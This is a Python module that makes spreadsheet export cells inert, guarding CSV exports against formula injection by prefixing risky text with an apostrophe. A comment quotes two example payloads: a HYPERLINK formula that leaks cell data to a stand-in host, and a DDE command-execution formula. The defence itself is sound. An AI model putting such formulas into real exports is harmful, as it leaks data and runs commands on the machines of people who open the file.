"""Export cells made inert: text a spreadsheet would run as a formula gets a leading apostrophe; CSV of such cells."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from typing import Any

# A spreadsheet reads a cell that starts with one of these as a formula (or DDE command), e.g.
# =HYPERLINK("http://x/?leak="&A1) or =cmd|' /C calc'!A0; registry text and case text can hold them.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def inert_cell(value: Any) -> Any:
    """The value as an export cell: text that a spreadsheet would read as a formula gets a leading apostrophe.

    Numbers stay numbers (a negative number is a number, not a formula); dates become ISO text;
    lists become comma-separated text.
    """
    if value is None or isinstance(value, bool | int | float):
        return value
    if isinstance(value, datetime | date):
        return value.isoformat()
    if isinstance(value, list | tuple | set | frozenset):
        value = ", ".join(str(v) for v in value)
    text = str(value)
    # Leading spaces do not stop some spreadsheets from evaluating what follows them.
    if text.lstrip(" ").startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


def rows_to_csv(rows: Iterable[Sequence[Any]]) -> str:
    """The rows as CSV text, every cell made inert."""
    out = io.StringIO()
    csv.writer(out).writerows([inert_cell(v) for v in row] for row in rows)
    return out.getvalue()
